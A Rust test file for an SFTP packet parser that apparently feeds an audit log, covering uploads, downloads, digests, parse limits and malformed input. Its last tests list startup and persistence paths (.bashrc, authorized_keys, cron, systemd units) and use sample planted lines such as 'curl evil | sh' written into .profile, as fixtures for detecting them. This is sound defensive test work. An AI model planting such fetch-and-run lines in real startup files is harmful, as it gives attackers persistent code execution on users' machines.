//! Tables of packet exchanges built byte by byte, fed whole, split and coalesced.
use super::wire::fxp;
use super::*;
use sha2::{Digest, Sha256};

/// Builds SFTP packets the way OpenSSH encodes them.
#[derive(Default)]
struct P(Vec<u8>);

impl P {
    fn u32(mut self, v: u32) -> Self {
        self.0.extend_from_slice(&v.to_be_bytes());
        self
    }
    fn u64(mut self, v: u64) -> Self {
        self.0.extend_from_slice(&v.to_be_bytes());
        self
    }
    fn s(mut self, v: &[u8]) -> Self {
        self = self.u32(v.len() as u32);
        self.0.extend_from_slice(v);
        self
    }
    /// `uint32 length, byte type, fields`.
    fn packet(self, kind: u8) -> Vec<u8> {
        let mut out = ((self.0.len() + 1) as u32).to_be_bytes().to_vec();
        out.push(kind);
        out.extend(self.0);
        out
    }
}

fn p() -> P {
    P::default()
}

const H1: &[u8] = &[0, 0, 0, 1];
const H2: &[u8] = &[0, 0, 0, 2];
const NO_ATTRS: u32 = 0;

fn init() -> Vec<u8> {
    p().u32(3).packet(fxp::INIT)
}
fn version() -> Vec<u8> {
    p().u32(3)
        .s(b"posix-rename@openssh.com")
        .s(b"1")
        .packet(fxp::VERSION)
}
fn open(id: u32, path: &[u8], pflags: u32) -> Vec<u8> {
    p().u32(id)
        .s(path)
        .u32(pflags)
        .u32(NO_ATTRS)
        .packet(fxp::OPEN)
}
fn handle(id: u32, h: &[u8]) -> Vec<u8> {
    p().u32(id).s(h).packet(fxp::HANDLE)
}
fn status(id: u32, code: u32, msg: &str) -> Vec<u8> {
    p().u32(id)
        .u32(code)
        .s(msg.as_bytes())
        .s(b"")
        .packet(fxp::STATUS)
}
fn ok(id: u32) -> Vec<u8> {
    status(id, 0, "Success")
}
fn write(id: u32, h: &[u8], offset: u64, data: &[u8]) -> Vec<u8> {
    p().u32(id).s(h).u64(offset).s(data).packet(fxp::WRITE)
}
fn read(id: u32, h: &[u8], offset: u64, len: u32) -> Vec<u8> {
    p().u32(id).s(h).u64(offset).u32(len).packet(fxp::READ)
}
fn data(id: u32, bytes: &[u8]) -> Vec<u8> {
    p().u32(id).s(bytes).packet(fxp::DATA)
}
fn close(id: u32, h: &[u8]) -> Vec<u8> {
    p().u32(id).s(h).packet(fxp::CLOSE)
}
fn path_req(kind: u8, id: u32, path: &[u8]) -> Vec<u8> {
    p().u32(id).s(path).packet(kind)
}
fn mkdir(id: u32, path: &[u8]) -> Vec<u8> {
    p().u32(id).s(path).u32(NO_ATTRS).packet(fxp::MKDIR)
}
fn two_paths(kind: u8, id: u32, a: &[u8], b: &[u8]) -> Vec<u8> {
    p().u32(id).s(a).s(b).packet(kind)
}
fn extended(id: u32, name: &str, args: &[&[u8]]) -> Vec<u8> {
    let mut b = p().u32(id).s(name.as_bytes());
    for a in args {
        b = b.s(a);
    }
    b.packet(fxp::EXTENDED)
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Side {
    C,
    S,
}
use Side::{C, S};

const RW_CREATE_TRUNC: u32 = 0x02 | 0x08 | 0x10;

fn flags(bits: u32) -> OpenFlags {
    OpenFlags::from_bits(bits)
}
fn okst() -> SftpStatus {
    SftpStatus::Ok
}
fn failed(code: u32, message: &str) -> SftpStatus {
    SftpStatus::Failed {
        code,
        message: message.to_string(),
    }
}
fn s(v: &str) -> String {
    v.to_string()
}

/// A digest expected one way.
enum Dg {
    /// No data flowed.
    No,
    /// The SHA-256 of these bytes.
    Of(Vec<u8>),
    Un(DigestUnavailable),
}

fn dg(d: Dg) -> (Option<String>, Option<DigestUnavailable>) {
    match d {
        Dg::No => (None, None),
        Dg::Of(bytes) => (Some(hex::encode(Sha256::digest(&bytes))), None),
        Dg::Un(why) => (None, Some(why)),
    }
}

fn closed(path: &str, read: u64, written: u64, r: Dg, w: Dg, status: SftpStatus) -> SftpOp {
    let ((sha256_read, sha256_read_unavailable), (sha256_written, sha256_written_unavailable)) =
        (dg(r), dg(w));
    SftpOp::Close {
        path: s(path),
        bytes_read: read,
        bytes_written: written,
        sha256_read,
        sha256_read_unavailable,
        sha256_written,
        sha256_written_unavailable,
        status,
    }
}

fn unclosed(path: &str, read: u64, written: u64, r: Dg, w: Dg) -> SftpOp {
    let ((sha256_read, sha256_read_unavailable), (sha256_written, sha256_written_unavailable)) =
        (dg(r), dg(w));
    SftpOp::Unclosed {
        path: s(path),
        bytes_read: read,
        bytes_written: written,
        sha256_read,
        sha256_read_unavailable,
        sha256_written,
        sha256_written_unavailable,
    }
}

fn opened(path: &str, bits: u32, h: &str) -> SftpOp {
    SftpOp::Open {
        path: s(path),
        flags: flags(bits),
        handle: Some(s(h)),
        status: okst(),
    }
}

/// Deterministic file content.
fn content(len: usize, seed: u32) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect()
}

/// A name, the packets of each side in the order they pass, the operations expected.
type Case = (&'static str, Vec<(Side, Vec<u8>)>, Vec<SftpOp>);

fn cases() -> Vec<Case> {
    let big = vec![7u8; 200 * 1024];
    vec![
        (
            "upload: open, two writes, close",
            vec![
                (C, init()),
                (S, version()),
                (C, open(1, b"/tmp/up.bin", RW_CREATE_TRUNC)),
                (S, handle(1, H1)),
                (C, write(2, H1, 0, b"hello ")),
                (C, write(3, H1, 6, b"world")),
                (S, ok(2)),
                (S, ok(3)),
                (C, close(4, H1)),
                (S, ok(4)),
            ],
            vec![
                SftpOp::Open {
                    path: s("/tmp/up.bin"),
                    flags: flags(RW_CREATE_TRUNC),
                    handle: Some(s("00000001")),
                    status: okst(),
                },
                closed(
                    "/tmp/up.bin",
                    0,
                    11,
                    Dg::No,
                    Dg::Of(b"hello world".to_vec()),
                    okst(),
                ),
            ],
        ),
        (
            "download: reads answered out of order, eof, close",
            vec![
                (C, init()),
                (S, version()),
                (C, open(7, b"/etc/hosts", 0x01)),
                (S, handle(7, H2)),
                (C, read(8, H2, 0, 32768)),
                (C, read(9, H2, 32768, 32768)),
                (S, data(9, &[1u8; 100])),
                (S, data(8, &[1u8; 32768])),
                (C, read(10, H2, 32868, 32768)),
                (S, status(10, 1, "End of file")),
                (C, close(11, H2)),
                (S, ok(11)),
            ],
            vec![
                SftpOp::Open {
                    path: s("/etc/hosts"),
                    flags: flags(0x01),
                    handle: Some(s("00000002")),
                    status: okst(),
                },
                closed(
                    "/etc/hosts",
                    32868,
                    0,
                    Dg::Of(vec![1u8; 32868]),
                    Dg::No,
                    okst(),
                ),
            ],
        ),
        (
            "a large write counts",
            vec![
                (C, open(1, b"big", 0x02)),
                (S, handle(1, H1)),
                (C, write(2, H1, 0, &big)),
                (S, ok(2)),
                (C, close(3, H1)),
                (S, ok(3)),
            ],
            vec![
                SftpOp::Open {
                    path: s("big"),
                    flags: flags(0x02),
                    handle: Some(s("00000001")),
                    status: okst(),
                },
                closed(
                    "big",
                    0,
                    big.len() as u64,
                    Dg::No,
                    Dg::Of(big.clone()),
                    okst(),
                ),
            ],
        ),
        (
            "open refused",
            vec![
                (C, open(1, b"/root/secret", 0x01)),
                (S, status(1, 3, "Permission denied")),
            ],
            vec![SftpOp::Open {
                path: s("/root/secret"),
                flags: flags(0x01),
                handle: None,
                status: failed(3, "Permission denied"),
            }],
        ),
        (
            "failed write is not counted",
            vec![
                (C, open(1, b"f", 0x02)),
                (S, handle(1, H1)),
                (C, write(2, H1, 0, b"abc")),
                (S, status(2, 4, "Failure")),
                (C, write(3, H1, 0, b"de")),
                (S, ok(3)),
                (C, close(4, H1)),
                (S, ok(4)),
            ],
            vec![
                SftpOp::Open {
                    path: s("f"),
                    flags: flags(0x02),
                    handle: Some(s("00000001")),
                    status: okst(),
                },
                closed(
                    "f",
                    0,
                    2,
                    Dg::No,
                    Dg::Un(DigestUnavailable::NonSequential),
                    okst(),
                ),
            ],
        ),
        (
            "remove, rename, mkdir, rmdir with their statuses",
            vec![
                (C, path_req(fxp::REMOVE, 1, b"/tmp/a")),
                (C, two_paths(fxp::RENAME, 2, b"/tmp/b", b"/tmp/c")),
                (C, mkdir(3, b"/tmp/d")),
                (C, path_req(fxp::RMDIR, 4, b"/tmp/e")),
                (S, ok(1)),
                (S, ok(2)),
                (S, status(3, 4, "Failure")),
                (S, status(4, 2, "No such file")),
            ],
            vec![
                SftpOp::Remove {
                    path: s("/tmp/a"),
                    status: okst(),
                },
                SftpOp::Rename {
                    from: s("/tmp/b"),
                    to: s("/tmp/c"),
                    status: okst(),
                },
                SftpOp::Mkdir {
                    path: s("/tmp/d"),
                    status: failed(4, "Failure"),
                },
                SftpOp::Rmdir {
                    path: s("/tmp/e"),
                    status: failed(2, "No such file"),
                },
            ],
        ),
        (
            "setstat, fsetstat, symlink and extensions",
            vec![
                (C, p().u32(1).s(b"/x").u32(NO_ATTRS).packet(fxp::SETSTAT)),
                (C, open(2, b"/y", 0x02)),
                (S, ok(1)),
                (S, handle(2, H1)),
                (C, p().u32(3).s(H1).u32(NO_ATTRS).packet(fxp::FSETSTAT)),
                (S, ok(3)),
                (C, two_paths(fxp::SYMLINK, 4, b"/target", b"/link")),
                (S, ok(4)),
                (C, extended(5, "posix-rename@openssh.com", &[b"/o", b"/n"])),
                (S, ok(5)),
                (C, extended(6, "hardlink@openssh.com", &[b"/t", b"/l"])),
                (S, ok(6)),
                (C, extended(7, "statvfs@openssh.com", &[b"/"])),
                (S, p().u32(7).u64(1).packet(201)),
                (C, extended(8, "copy-data", &[H1])),
                (S, status(8, 8, "Unsupported")),
            ],
            vec![
                SftpOp::Setstat {
                    path: s("/x"),
                    status: okst(),
                },
                SftpOp::Open {
                    path: s("/y"),
                    flags: flags(0x02),
                    handle: Some(s("00000001")),
                    status: okst(),
                },
                SftpOp::Setstat {
                    path: s("/y"),
                    status: okst(),
                },
                SftpOp::Symlink {
                    target: s("/target"),
                    link: s("/link"),
                    status: okst(),
                },
                SftpOp::Rename {
                    from: s("/o"),
                    to: s("/n"),
                    status: okst(),
                },
                SftpOp::Hardlink {
                    target: s("/t"),
                    link: s("/l"),
                    status: okst(),
                },
                SftpOp::Extended {
                    name: s("copy-data"),
                    status: failed(8, "Unsupported"),
                },
                unclosed("/y", 0, 0, Dg::No, Dg::No),
            ],
        ),
        (
            "directory listing: opendir reported, readdir and close not",
            vec![
                (C, path_req(fxp::OPENDIR, 1, b"/var/log")),
                (S, handle(1, H1)),
                (C, p().u32(2).s(H1).packet(12)),
                (S, p().u32(2).u32(0).packet(104)),
                (C, close(3, H1)),
                (S, ok(3)),
                (C, path_req(17, 4, b"/etc")),
                (S, p().u32(4).u32(0).packet(105)),
            ],
            vec![SftpOp::Opendir {
                path: s("/var/log"),
                status: okst(),
            }],
        ),
        (
            "non-UTF-8 path recorded lossily",
            vec![(C, path_req(fxp::REMOVE, 1, b"/tmp/\xff../x")), (S, ok(1))],
            vec![SftpOp::Remove {
                path: s("/tmp/\u{fffd}../x"),
                status: okst(),
            }],
        ),
        (
            "status without message",
            vec![
                (C, path_req(fxp::REMOVE, 1, b"/a")),
                (S, p().u32(1).u32(2).packet(fxp::STATUS)),
            ],
            vec![SftpOp::Remove {
                path: s("/a"),
                status: failed(2, ""),
            }],
        ),
        (
            "unanswered requests and unclosed handles at the end",
            vec![
                (C, open(1, b"/w", 0x02)),
                (S, handle(1, H1)),
                (C, write(2, H1, 0, b"xyz")),
                (S, ok(2)),
                (C, open(3, b"/never", 0x01)),
                (C, path_req(fxp::REMOVE, 4, b"/gone")),
            ],
            vec![
                SftpOp::Open {
                    path: s("/w"),
                    flags: flags(0x02),
                    handle: Some(s("00000001")),
                    status: okst(),
                },
                SftpOp::Open {
                    path: s("/never"),
                    flags: flags(0x01),
                    handle: None,
                    status: SftpStatus::NoResponse,
                },
                SftpOp::Remove {
                    path: s("/gone"),
                    status: SftpStatus::NoResponse,
                },
                unclosed("/w", 0, 3, Dg::No, Dg::Of(b"xyz".to_vec())),
            ],
        ),
        (
            "oversized packet stops parsing",
            vec![
                (C, path_req(fxp::REMOVE, 1, b"/a")),
                (S, ok(1)),
                (C, ((MAX_PACKET_LEN + 1) as u32).to_be_bytes().to_vec()),
                (C, path_req(fxp::REMOVE, 2, b"/b")),
                (S, ok(2)),
            ],
            vec![
                SftpOp::Remove {
                    path: s("/a"),
                    status: okst(),
                },
                SftpOp::Unparseable {
                    reason: format!(
                        "client: packet of {} bytes (at most {MAX_PACKET_LEN})",
                        MAX_PACKET_LEN + 1
                    ),
                },
            ],
        ),
        (
            "truncated field stops parsing",
            vec![
                (C, p().u32(1).u32(100).packet(fxp::OPEN)),
                (C, path_req(fxp::REMOVE, 2, b"/b")),
                (S, ok(2)),
            ],
            vec![SftpOp::Unparseable {
                reason: s("client: truncated path"),
            }],
        ),
        (
            "empty packet stops parsing",
            vec![(S, vec![0, 0, 0, 0])],
            vec![SftpOp::Unparseable {
                reason: s("server: empty packet"),
            }],
        ),
    ]
}

/// Writes of `chunk` bytes from `from`, request ids from `id`, all sent before any answer, then
/// all acknowledged in order.
fn pipelined_writes(
    steps: &mut Vec<(Side, Vec<u8>)>,
    id: u32,
    h: &[u8],
    file: &[u8],
    from: usize,
    chunk: usize,
) -> u32 {
    let mut next = id;
    for (i, part) in file[from..].chunks(chunk).enumerate() {
        steps.push((C, write(next, h, (from + i * chunk) as u64, part)));
        next += 1;
    }
    for ack in id..next {
        steps.push((S, ok(ack)));
    }
    next
}

const UNSEQ: Dg = Dg::Un(DigestUnavailable::NonSequential);

/// Digest cases: what the engineer's sftp or scp (over SFTP) client really does.
fn digest_cases() -> Vec<Case> {
    let file = content(100_000, 1);
    let small = content(40_000, 2);
    const K32: usize = 32 * 1024;
    let mut upload = vec![
        (C, init()),
        (S, version()),
        (C, open(1, b"/srv/up", RW_CREATE_TRUNC)),
        (S, handle(1, H1)),
    ];
    let id = pipelined_writes(&mut upload, 2, H1, &file, 0, K32);
    upload.extend([(C, close(id, H1)), (S, ok(id))]);

    let mut resumed_up = vec![(C, open(1, b"/srv/up", 0x02)), (S, handle(1, H1))];
    let id = pipelined_writes(&mut resumed_up, 2, H1, &file, 60_000, K32);
    resumed_up.extend([(C, close(id, H1)), (S, ok(id))]);

    let k = |i: usize| (i * K32) as u64;
    let part = |i: usize| &file[i * K32..((i + 1) * K32).min(file.len())];
    vec![
        (
            "pipelined 32 KiB writes acknowledged late: the sha256sum of the file",
            upload,
            vec![
                opened("/srv/up", RW_CREATE_TRUNC, "00000001"),
                closed("/srv/up", 0, 100_000, Dg::No, Dg::Of(file.clone()), okst()),
            ],
        ),
        (
            "pipelined reads answered out of order, then eof",
            vec![
                (C, open(1, b"/srv/down", 0x01)),
                (S, handle(1, H2)),
                (C, read(2, H2, k(0), K32 as u32)),
                (C, read(3, H2, k(1), K32 as u32)),
                (C, read(4, H2, k(2), K32 as u32)),
                (C, read(5, H2, k(3), K32 as u32)),
                (S, data(4, part(2))),
                (S, data(5, part(3))),
                (S, data(2, part(0))),
                (S, data(3, part(1))),
                (C, read(6, H2, 100_000, K32 as u32)),
                (S, status(6, 1, "End of file")),
                (C, close(7, H2)),
                (S, ok(7)),
            ],
            vec![
                opened("/srv/down", 0x01, "00000002"),
                closed(
                    "/srv/down",
                    100_000,
                    0,
                    Dg::Of(file.clone()),
                    Dg::No,
                    okst(),
                ),
            ],
        ),
        (
            "a short read re-requested while a later reply waits",
            vec![
                (C, open(1, b"/s", 0x01)),
                (S, handle(1, H1)),
                (C, read(2, H1, 0, K32 as u32)),
                (C, read(3, H1, k(1), K32 as u32)),
                (S, data(2, &small[..1000])),
                (S, data(3, &small[K32..])),
                (C, read(4, H1, 1000, (K32 - 1000) as u32)),
                (S, data(4, &small[1000..K32])),
                (C, close(5, H1)),
                (S, ok(5)),
            ],
            vec![
                opened("/s", 0x01, "00000001"),
                closed("/s", 40_000, 0, Dg::Of(small.clone()), Dg::No, okst()),
            ],
        ),
        (
            "resumed upload (reput): no digest",
            resumed_up,
            vec![
                opened("/srv/up", 0x02, "00000001"),
                closed("/srv/up", 0, 40_000, Dg::No, UNSEQ, okst()),
            ],
        ),
        (
            "resumed download (reget): no digest",
            vec![
                (C, open(1, b"/d", 0x01)),
                (S, handle(1, H1)),
                (C, read(2, H1, 5000, K32 as u32)),
                (C, read(3, H1, 5000 + K32 as u64, K32 as u32)),
                (S, data(2, &small[5000..5000 + K32])),
                (S, data(3, &small[5000 + K32..])),
                (C, close(4, H1)),
                (S, ok(4)),
            ],
            vec![
                opened("/d", 0x01, "00000001"),
                closed("/d", 35_000, 0, UNSEQ, Dg::No, okst()),
            ],
        ),
        (
            "zero-length upload and download: no data, no digest",
            vec![
                (C, open(1, b"/empty-up", RW_CREATE_TRUNC)),
                (S, handle(1, H1)),
                (C, close(2, H1)),
                (S, ok(2)),
                (C, open(3, b"/empty-down", 0x01)),
                (S, handle(3, H2)),
                (C, read(4, H2, 0, K32 as u32)),
                (S, status(4, 1, "End of file")),
                (C, close(5, H2)),
                (S, ok(5)),
            ],
            vec![
                opened("/empty-up", RW_CREATE_TRUNC, "00000001"),
                closed("/empty-up", 0, 0, Dg::No, Dg::No, okst()),
                opened("/empty-down", 0x01, "00000002"),
                closed("/empty-down", 0, 0, Dg::No, Dg::No, okst()),
            ],
        ),
        (
            "a read gap never filled",
            vec![
                (C, open(1, b"/g", 0x01)),
                (S, handle(1, H1)),
                (C, read(2, H1, 0, K32 as u32)),
                (C, read(3, H1, k(1), K32 as u32)),
                (S, data(3, part(1))),
                (S, status(2, 4, "Failure")),
                (C, close(4, H1)),
                (S, ok(4)),
            ],
            vec![
                opened("/g", 0x01, "00000001"),
                closed("/g", K32 as u64, 0, UNSEQ, Dg::No, okst()),
            ],
        ),
        (
            "the same bytes read twice",
            vec![
                (C, open(1, b"/t", 0x01)),
                (S, handle(1, H1)),
                (C, read(2, H1, 0, 100)),
                (S, data(2, &small[..100])),
                (C, read(3, H1, 0, 100)),
                (S, data(3, &small[..100])),
                (C, close(4, H1)),
                (S, ok(4)),
            ],
            vec![
                opened("/t", 0x01, "00000001"),
                closed("/t", 200, 0, UNSEQ, Dg::No, okst()),
            ],
        ),
        (
            "a write never acknowledged",
            vec![
                (C, open(1, b"/u", 0x02)),
                (S, handle(1, H1)),
                (C, write(2, H1, 0, b"abc")),
                (C, write(3, H1, 3, b"def")),
                (S, ok(2)),
            ],
            vec![
                opened("/u", 0x02, "00000001"),
                unclosed(
                    "/u",
                    0,
                    3,
                    Dg::No,
                    Dg::Un(DigestUnavailable::Unacknowledged),
                ),
            ],
        ),
        (
            "read and write through one handle, two handles interleaved",
            vec![
                (C, open(1, b"/rw", 0x03)),
                (C, open(2, b"/w2", 0x02)),
                (S, handle(1, H1)),
                (S, handle(2, H2)),
                (C, write(3, H1, 0, b"abc")),
                (C, write(4, H2, 0, b"xy")),
                (C, read(5, H1, 0, 10)),
                (C, write(6, H2, 2, b"z")),
                (S, ok(3)),
                (S, ok(4)),
                (S, data(5, b"abc")),
                (S, ok(6)),
                (C, close(7, H1)),
                (C, close(8, H2)),
                (S, ok(8)),
                (S, ok(7)),
            ],
            vec![
                opened("/rw", 0x03, "00000001"),
                opened("/w2", 0x02, "00000002"),
                closed("/w2", 0, 3, Dg::No, Dg::Of(b"xyz".to_vec()), okst()),
                closed(
                    "/rw",
                    3,
                    3,
                    Dg::Of(b"abc".to_vec()),
                    Dg::Of(b"abc".to_vec()),
                    okst(),
                ),
            ],
        ),
    ]
}

fn all_cases() -> Vec<Case> {
    let mut all = cases();
    all.extend(digest_cases());
    all
}

fn run(steps: &[(Side, Vec<u8>)], split: Option<usize>) -> Vec<SftpOp> {
    let mut parser = SftpParser::new();
    let mut ops = Vec::new();
    for (side, bytes) in steps {
        let chunks: Vec<&[u8]> = match split {
            Some(n) => bytes.chunks(n).collect(),
            None => vec![bytes],
        };
        for chunk in chunks {
            ops.extend(match side {
                C => parser.client_data(chunk),
                S => parser.server_data(chunk),
            });
        }
    }
    ops.extend(parser.finish());
    ops
}

#[test]
fn operations_whole_packets() {
    for (name, steps, want) in all_cases() {
        assert_eq!(run(&steps, None), want, "{name}");
    }
}

#[test]
fn operations_split_at_every_byte() {
    for (name, steps, want) in all_cases() {
        assert_eq!(run(&steps, Some(1)), want, "{name}");
    }
}

#[test]
fn operations_split_at_odd_sizes() {
    for n in [2, 3, 5, 7, 4096] {
        for (name, steps, want) in all_cases() {
            assert_eq!(run(&steps, Some(n)), want, "{name} in chunks of {n}");
        }
    }
}

/// Consecutive packets of one side coalesced into one chunk.
#[test]
fn operations_coalesced() {
    for (name, steps, want) in all_cases() {
        let mut merged: Vec<(Side, Vec<u8>)> = Vec::new();
        for (side, bytes) in steps {
            match merged.last_mut() {
                Some((last, buf)) if *last == side => buf.extend(bytes),
                Some(_) | None => merged.push((side, bytes)),
            }
        }
        assert_eq!(run(&merged, None), want, "{name}");
    }
}

#[test]
fn digest_is_the_sha256sum() {
    let ops = run(
        &[
            (C, open(1, b"/h", 0x02)),
            (S, handle(1, H1)),
            (C, write(2, H1, 0, b"hello world\n")),
            (S, ok(2)),
            (C, close(3, H1)),
            (S, ok(3)),
        ],
        None,
    );
    // printf 'hello world\n' | sha256sum
    let want = "a948904f2f0f479b8f8197694b30184b0d2ed1c1cd2a1ec0fb85d299a192a447";
    assert!(
        matches!(&ops[1], SftpOp::Close { sha256_written: Some(h), .. } if h == want),
        "{ops:?}"
    );
    let v = serde_json::to_value(&ops[1]).unwrap();
    assert_eq!(v["sha256_written"], want);
    assert_eq!(v["sha256_read"], serde_json::Value::Null);
    let op = closed("/x", 5, 0, UNSEQ, Dg::No, okst());
    let v = serde_json::to_value(&op).unwrap();
    assert_eq!(v["sha256_read_unavailable"], "non_sequential");
}

#[test]
fn reordering_is_bounded() {
    const CHUNK: usize = 256 * 1024;
    let n = MAX_REORDER_BYTES / CHUNK + 2;
    let file = content(n * CHUNK, 3);
    let mut parser = SftpParser::new();
    let mut ops = parser.client_data(&open(1, b"/big", 0x01));
    ops.extend(parser.server_data(&handle(1, H1)));
    for i in 0..n {
        let off = (i * CHUNK) as u64;
        ops.extend(parser.client_data(&read(2 + i as u32, H1, off, CHUNK as u32)));
    }
    // Every reply but the first, then the first.
    for i in (1..n).chain([0]) {
        ops.extend(parser.server_data(&data(2 + i as u32, &file[i * CHUNK..(i + 1) * CHUNK])));
        assert!(parser.state.reorder_bytes <= MAX_REORDER_BYTES);
    }
    assert_eq!(parser.state.reorder_bytes, 0);
    ops.extend(parser.client_data(&close(100, H1)));
    ops.extend(parser.server_data(&ok(100)));
    assert_eq!(
        ops[1],
        closed(
            "/big",
            file.len() as u64,
            0,
            Dg::Un(DigestUnavailable::ReorderOverflow),
            Dg::No,
            okst()
        )
    );
    // Within the bound the same pattern gives the digest; the budget is given back.
    let mut parser = SftpParser::new();
    let mut ops = parser.client_data(&open(1, b"/big", 0x01));
    ops.extend(parser.server_data(&handle(1, H1)));
    let m = 4;
    for i in 0..m {
        ops.extend(parser.client_data(&read(2 + i as u32, H1, (i * CHUNK) as u64, CHUNK as u32)));
    }
    for i in (1..m).chain([0]) {
        ops.extend(parser.server_data(&data(2 + i as u32, &file[i * CHUNK..(i + 1) * CHUNK])));
    }
    assert_eq!(parser.state.reorder_bytes, 0);
    ops.extend(parser.finish());
    assert_eq!(
        ops[1],
        unclosed(
            "/big",
            (m * CHUNK) as u64,
            0,
            Dg::Of(file[..m * CHUNK].to_vec()),
            Dg::No
        )
    );
}

#[test]
fn closing_with_replies_kept_gives_the_budget_back() {
    let mut parser = SftpParser::new();
    parser.client_data(&open(1, b"/k", 0x01));
    parser.server_data(&handle(1, H1));
    parser.client_data(&read(2, H1, 0, 10));
    parser.client_data(&read(3, H1, 10, 10));
    parser.server_data(&data(3, &[5u8; 10]));
    assert_eq!(parser.state.reorder_bytes, 10);
    parser.client_data(&close(4, H1));
    let ops = parser.server_data(&ok(4));
    assert_eq!(parser.state.reorder_bytes, 0);
    assert_eq!(ops, vec![closed("/k", 10, 0, UNSEQ, Dg::No, okst())]);
}

#[test]
fn buffering_is_bounded() {
    let mut parser = SftpParser::new();
    // A maximal packet announced, then fed slowly: never more than one packet buffered.
    let mut bytes = (MAX_PACKET_LEN as u32).to_be_bytes().to_vec();
    bytes.push(99);
    bytes.resize(4 + MAX_PACKET_LEN, 0);
    for chunk in bytes.chunks(10_000) {
        assert!(parser.client_data(chunk).is_empty());
        assert!(parser.client.buf.len() <= 4 + MAX_PACKET_LEN);
    }
    assert!(parser.client.buf.is_empty());
    // A lying length is refused before anything is buffered.
    let ops = parser.server_data(&u32::MAX.to_be_bytes());
    assert!(matches!(ops.as_slice(), [SftpOp::Unparseable { .. }]));
    assert!(parser.server.buf.is_empty());
    assert!(parser.client_data(&open(1, b"/a", 1)).is_empty());
}

#[test]
fn outstanding_requests_are_bounded() {
    let mut parser = SftpParser::new();
    let mut ops = Vec::new();
    for id in 0..=MAX_PENDING as u32 {
        ops.extend(parser.client_data(&path_req(fxp::REMOVE, id, b"/x")));
    }
    assert!(matches!(ops.as_slice(), [SftpOp::Unparseable { .. }]));
    assert!(parser.state.pending.len() <= MAX_PENDING);
}

#[test]
fn reused_request_id_answers_the_earlier_one() {
    let mut parser = SftpParser::new();
    let mut ops = parser.client_data(&path_req(fxp::REMOVE, 1, b"/a"));
    ops.extend(parser.client_data(&path_req(fxp::REMOVE, 1, b"/b")));
    ops.extend(parser.server_data(&ok(1)));
    assert_eq!(
        ops,
        vec![
            SftpOp::Remove {
                path: s("/a"),
                status: SftpStatus::NoResponse
            },
            SftpOp::Remove {
                path: s("/b"),
                status: okst()
            },
        ]
    );
}

#[test]
fn garbage_never_panics() {
    // A cheap deterministic generator: the parser must stay within bounds on anything.
    let mut x: u32 = 0x2545_f491;
    for round in 0..200 {
        let mut parser = SftpParser::new();
        for _ in 0..50 {
            let mut chunk = Vec::new();
            for _ in 0..(x % 64) {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                chunk.push(if round % 2 == 0 {
                    (x % 4) as u8
                } else {
                    x as u8
                });
            }
            let _ = parser.client_data(&chunk);
            let _ = parser.server_data(&chunk);
            assert!(parser.client.buf.len() <= 4 + MAX_PACKET_LEN);
        }
        let _ = parser.finish();
    }
}

#[test]
fn ops_serialize_for_the_audit_log() {
    let op = SftpOp::Open {
        path: s("/a"),
        flags: flags(0x1a),
        handle: None,
        status: failed(3, "Permission denied"),
    };
    let v = serde_json::to_value(&op).unwrap();
    assert_eq!(v["op"], "open");
    assert_eq!(v["flags"]["write"], true);
    assert_eq!(v["flags"]["read"], false);
    assert_eq!(v["status"]["status"], "failed");
    assert_eq!(v["status"]["code"], 3);
    assert_eq!(status_name(3), "permission denied");
}

mod properties;

#[test]
fn paths_that_run_later_are_told_apart() {
    use super::runs_later;
    for yes in [
        ".bashrc",
        "/home/a/.bashrc",
        ".profile",
        "/root/.ssh/authorized_keys",
        ".ssh/rc",
        "/home/a/.ssh/environment",
        "/etc/cron.d/x",
        "etc/profile.d/a",
        "/var/spool/cron/crontabs/root",
        "/home/a/.config/systemd/user/x.service",
        "deploy.sh",
        "/tmp/run.bash",
    ] {
        assert!(runs_later(yes), "{yes}");
    }
    for no in [
        "notes.txt",
        "/tmp/rc",
        "environment",
        "/home/a/data.csv",
        "bashrc.txt",
    ] {
        assert!(!runs_later(no), "{no}");
    }
}

#[test]
fn what_is_written_to_a_file_that_runs_later_is_kept_also_through_a_rename() {
    let kept = |ops: &[SftpOp]| -> Vec<(String, String, bool)> {
        ops.iter()
            .filter_map(|o| match o {
                SftpOp::KeptContent { path, content, cut } => {
                    Some((path.clone(), content.clone(), *cut))
                }
                _ => None,
            })
            .collect()
    };
    // Written straight to ~/.bashrc.
    let ops = run(
        &[
            (C, open(1, b".bashrc", 0x1a)),
            (S, handle(1, H1)),
            (C, write(2, H1, 0, b"touch /tmp/planted\n")),
            (S, ok(2)),
            (C, close(3, H1)),
            (S, ok(3)),
        ],
        None,
    );
    assert_eq!(
        kept(&ops),
        [(s(".bashrc"), s("touch /tmp/planted\n"), false)],
        "{ops:?}"
    );
    // Written elsewhere, then renamed over it: kept at the rename.
    let ops = run(
        &[
            (C, open(1, b"/tmp/x", 0x1a)),
            (S, handle(1, H1)),
            (C, write(2, H1, 0, b"curl evil | sh\n")),
            (S, ok(2)),
            (C, close(3, H1)),
            (S, ok(3)),
            (C, two_paths(fxp::RENAME, 4, b"/tmp/x", b"/home/a/.profile")),
            (S, ok(4)),
        ],
        None,
    );
    assert_eq!(
        kept(&ops),
        [(s("/home/a/.profile"), s("curl evil | sh\n"), false)],
        "{ops:?}"
    );
    // A plain data file keeps nothing; a big start-up file is cut at the bound.
    let big = vec![b'#'; KEPT_BYTES + 10];
    let ops = run(
        &[
            (C, open(1, b"notes.txt", 0x1a)),
            (S, handle(1, H1)),
            (C, write(2, H1, 0, b"hello")),
            (S, ok(2)),
            (C, close(3, H1)),
            (S, ok(3)),
            (C, open(4, b".zshrc", 0x1a)),
            (S, handle(4, H2)),
            (C, write(5, H2, 0, &big)),
            (S, ok(5)),
            (C, close(6, H2)),
            (S, ok(6)),
        ],
        None,
    );
    let k = kept(&ops);
    assert_eq!(k.len(), 1, "{k:?}");
    assert_eq!(k[0].0, ".zshrc");
    assert_eq!(k[0].1.len(), KEPT_BYTES);
    assert!(k[0].2, "cut");
}
